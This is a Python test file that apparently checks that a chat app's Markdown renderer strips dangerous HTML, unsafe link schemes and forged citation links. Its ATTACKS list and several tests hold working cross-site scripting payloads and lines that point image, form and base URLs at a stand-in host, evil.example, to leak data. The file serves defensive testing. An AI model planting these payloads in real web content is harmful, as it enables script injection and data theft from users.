"""An answer's Markdown loads nothing, runs nothing and leads nowhere unexpected."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.chat.rendering import render

URLS = {
    1: "/documents/11111111-1111-1111-1111-111111111111/?passage=0-9",
    12: "/documents/x/?a=1&b",
}
ALLOWED = {
    "a", "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
    "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](https://evil.example/steal.png?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/steal.png",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "<style>@import 'https://evil.example'</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href='https://evil.example'>",
    "<form action='https://evil.example'><input name=q></form>",
    "`<script>`\n\n    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def _tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.found


def _assert_harmless(html: str) -> None:
    for tag, attributes in _tags(html):
        assert tag in ALLOWED, html
        assert set(attributes) <= {"href", "rel", "class", "data-number", "start"}, html
        assert attributes.get("class") in {None, "cite"}, html
        href = re.sub(r"[\x00-\x20]", "", attributes.get("href") or "").lower()
        scheme = re.match(r"[a-z][a-z0-9+.-]*:", href)
        assert scheme is None or scheme[0] in {"http:", "https:"}, html


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_shown_as_text_or_dropped(attack: str) -> None:
    _assert_harmless(render(attack, URLS))
    _assert_harmless(render(f"Text [1] {attack} [1] **bold**", URLS))


@given(
    st.lists(
        st.one_of(
            st.sampled_from(ATTACKS),
            st.text(max_size=12),
            st.sampled_from(list("[]()<>!`*_~|\\\"'&:/\n ")),
            st.sampled_from(["[1]", "[12]", "[99]", "\n\n", "> ", "- ", "](", "<a ", "```\n"]),
        ),
        max_size=14,
    )
)
def test_no_mixture_of_markup_gets_through(parts: list[str]) -> None:
    _assert_harmless(render("".join(parts), URLS))


def test_citation_leads_to_its_passage() -> None:
    (tag, attributes) = next(t for t in _tags(render("Yes. [1]", URLS)) if t[0] == "a")
    assert tag == "a"
    assert attributes["href"] == URLS[1]
    assert (attributes["class"], attributes["data-number"]) == ("cite", "1")


@pytest.mark.parametrize("text", ["[7]", "`[1]`", "```\n[1]\n```", "\\[x\\]", "[1a]"])
def test_what_is_no_citation_is_no_link(text: str) -> None:
    assert not [tag for tag, _ in _tags(render(text, URLS)) if tag == "a"]


@pytest.mark.parametrize(
    "text",
    [
        "[1]\n\n[1]: https://evil.example",
        "[1](https://evil.example)",
        "[\\[1\\]](https://evil.example)",
        "[**1**](https://evil.example)",
        "[see [1] there](https://evil.example)",
    ],
)
def test_no_link_passes_for_a_citation(text: str) -> None:
    hrefs = {attributes["href"] for tag, attributes in _tags(render(text, URLS)) if tag == "a"}
    assert hrefs <= {URLS[1]}


def test_definition_of_a_reference_is_shown_and_not_obeyed() -> None:
    html = render("As [a] says [1].\n\n[a]: https://evil.example", URLS)
    assert "[a]: https://evil.example" in html
    assert 'href="https' not in html


def test_links_tell_the_target_nothing() -> None:
    html = render("[docs](https://ok.example/a)", URLS)
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'href="https://ok.example/a"' in html


def test_headings_stand_below_the_question() -> None:
    assert [tag for tag, _ in _tags(render("# One\n\n## Two\n\n###### Six", {}))] == [
        "h3",
        "h4",
        "h6",
    ]


def test_tables_are_shown_without_styles() -> None:
    html = render("| a | b |\n|:--|--:|\n| 1 [1] | 2 |", URLS)
    assert "<table>" in html
    assert "style" not in html
    assert 'data-number="1"' in html
